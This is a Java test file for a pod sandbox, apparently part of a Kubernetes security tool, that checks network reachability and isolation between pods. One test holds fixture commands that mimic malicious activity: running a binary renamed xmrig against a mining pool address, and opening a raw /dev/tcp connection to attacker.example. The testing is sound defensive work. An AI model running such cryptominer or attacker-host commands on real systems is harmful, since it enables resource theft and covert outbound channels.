package io.kguard.sandbox;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.kguard.requirement.RequiresRoot;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@RequiresRoot
@Timeout(60)
class PodNetworkTest {
    static Sandbox sandbox;

    @BeforeAll
    static void open() {
        sandbox = Sandbox.open(SandboxOptions.defaults());
    }

    @AfterAll
    static void close() {
        sandbox.close();
    }

    @Test
    void peersAnswerByAddressAndByName() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/10.96.0.1/443 && echo connected")
                            .stdout())
                    .isEqualTo("connected\n");
            assertThat(Pods.bash(pod, "kguard-actor connect pool.minexmr.example 3333 hello")
                            .stdout())
                    .contains("\"status\":\"OK\"");
            assertThat(Pods.bash(
                                    pod,
                                    "cp /usr/bin/kguard-actor /tmp/xmrig;"
                                            + " /tmp/xmrig -o stratum+tcp://pool.minexmr.example:3333 -u wallet")
                            .exitStatus())
                    .isZero();
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/attacker.example/80; echo GET >&3; cat <&3")
                            .stdout())
                    .startsWith("HTTP/1.0 200 OK");
        }
    }

    @Test
    void peersSeeThePodsAddress() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/10.96.0.1/443; cat /proc/net/tcp")
                            .stdout())
                    .contains(hex(pod.ip()) + ":");
        }
    }

    private static String hex(String ip) {
        long number = Ipv4.toNumber(ip);
        return "%08X".formatted(Integer.reverseBytes((int) number));
    }

    @Test
    void nothingElseIsReached() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/8.8.8.8/53").stderr()).contains("Network is unreachable");
            assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/10.96.0.1/22").stderr()).contains("Connection refused");
        }
    }

    @Test
    void aServerOfTheJvmIsReachedThroughARelay() throws Exception {
        try (ServerSocket server = new ServerSocket(0, 5, InetAddress.getLoopbackAddress())) {
            Thread answering = new Thread(() -> {
                try (Socket connection = server.accept()) {
                    byte[] asked = connection.getInputStream().readNBytes(5);
                    connection.getOutputStream().write(("you said " + new String(asked, UTF_8)).getBytes(UTF_8));
                } catch (java.io.IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
            });
            answering.start();
            InetSocketAddress target = new InetSocketAddress(server.getInetAddress(), server.getLocalPort());
            PodSetup setup = PodSetup.defaults().withPeer(Peer.relay("10.96.0.1", 443, target, "kubernetes"));
            try (PodSandbox pod = sandbox.start(Pods.sleeping(), setup, PodListener.NONE)) {
                assertThat(Pods.bash(pod, "kguard-actor connect kubernetes 443 hello")
                                .stdout())
                        .isEqualTo("you said hello");
                assertThat(Pods.bash(pod, "exec 3<>/dev/tcp/127.0.0.1/" + server.getLocalPort())
                                .exitStatus())
                        .isNotZero();
            }
            answering.join();
        }
    }

    @Test
    void podsDoNotSeeEachOther() {
        try (PodSandbox one = sandbox.start(Pods.sleeping(), PodListener.NONE);
                PodSandbox other = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            try (ExecSession listener = one.container("").open(ExecSpec.of("kguard-actor", "listen", "8080", "30"))) {
                assertThat(Pods.bash(other, "exec 3<>/dev/tcp/" + one.ip() + "/8080")
                                .exitStatus())
                        .isNotZero();
                assertThat(listener.exit()).isNotDone();
            }
        }
    }

    @Test
    void theContainersOfAPodShareItsNetwork() {
        var pod = new io.fabric8.kubernetes.api.model.PodBuilder(Pods.sleeping())
                .editSpec()
                .addNewContainer()
                .withName("web")
                .withImage("base")
                .withCommand("kguard-actor", "listen", "8080", "1000")
                .endContainer()
                .endSpec()
                .build();
        try (PodSandbox started = sandbox.start(pod, PodListener.NONE)) {
            assertThat(Pods.bash(started, "until exec 3<>/dev/tcp/localhost/8080; do :; done 2>/dev/null; echo there")
                            .stdout())
                    .isEqualTo("there\n");
            assertThat(started.exec("web", ExecSpec.of("cat", "/proc/net/tcp")).stdout())
                    .contains(":1F90");
        }
    }
}
